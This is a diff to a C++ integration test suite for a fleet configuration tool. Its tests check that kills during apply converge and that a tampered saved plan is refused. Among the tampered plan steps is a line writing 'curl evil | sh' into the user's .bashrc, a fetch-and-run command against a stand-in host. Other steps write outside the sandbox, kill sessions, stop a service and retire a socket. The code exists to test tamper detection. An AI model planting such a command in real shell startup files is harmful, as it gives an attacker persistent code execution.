@@ -259,11 +259,7 @@ TEST_F(FleetIntegration, SigkillDuringApplyThenApplyConvergesAndLosesNothing) {
   int round = 0;
   for (int delay_ms : {0, 15, 40, 80, 150, 300}) {
     WriteRoster(rosters[round++ % 2]);
-    pid_t pid = sandbox_.SpawnFleet({"apply", "--yes"});
-    std::this_thread::sleep_for(std::chrono::milliseconds(delay_ms));
-    ::kill(-pid, SIGKILL);
-    Sandbox::Wait(pid);
-    RunResult r = Apply({"--lock-timeout", "30"});
+    RunResult r = KillApplyThenApply(delay_ms);
     ASSERT_EQ(r.code, 0) << "after a kill at " << delay_ms << " ms: " << r.out << r.err;
     EXPECT_TRUE(PlanIsEmpty()) << "after a kill at " << delay_ms << " ms";
     EXPECT_THAT(sandbox_.ReadFile(sandbox_.EnvFile("a")), HasSubstr(user_line));
@@ -534,15 +530,19 @@ TEST_F(FleetIntegration, AnEditedSavedPlanIsRefusedAndChangesNothing) {
   nlohmann::json original = nlohmann::json::parse(sandbox_.ReadFile(plan_file));
   const std::string bashrc = sandbox_.Home() + "/.bashrc", outside = sandbox_.root() + "/outside";
   auto step = [](const std::string& kind, std::vector<std::string> names, const std::string& path,
-                 const std::string& content, int mode) {
-    return nlohmann::json{{"kind", kind}, {"names", names},
-                          {"path", path}, {"content", content},
-                          {"mode", mode}, {"owned", nlohmann::json::array()}};
+                 const std::string& content, int mode, const std::string& socket = "") {
+    return nlohmann::json{{"kind", kind},    {"names", names},
+                          {"path", path},    {"content", content},
+                          {"mode", mode},    {"owned", nlohmann::json::array()},
+                          {"socket", socket}};
   };
-  std::vector<nlohmann::json> edits = {step("write-file", {}, bashrc, "curl evil | sh\n", 0644),
-                                       step("write-file", {}, outside, "x\n", 0644),
-                                       step("kill-sessions", {"scratch"}, "", "", 0),
-                                       step("stop", {"mosaic-agent@a.service"}, "", "", 0)};
+  std::vector<nlohmann::json> edits = {
+      step("write-file", {}, bashrc, "curl evil | sh\n", 0644),
+      step("write-file", {}, outside, "x\n", 0644), step("kill-sessions", {"scratch"}, "", "", 0),
+      step("stop", {"mosaic-agent@a.service"}, "", "", 0),
+      // As if the fleet had moved away from its own socket: its server would end.
+      step("retire-socket", {}, sandbox_.Config() + "/mosaic/fleet/run/previous-sockets", "", 0,
+           kSocket)};
   std::string before = Snapshot();
   for (const nlohmann::json& edit : edits) {
     nlohmann::json edited = original;
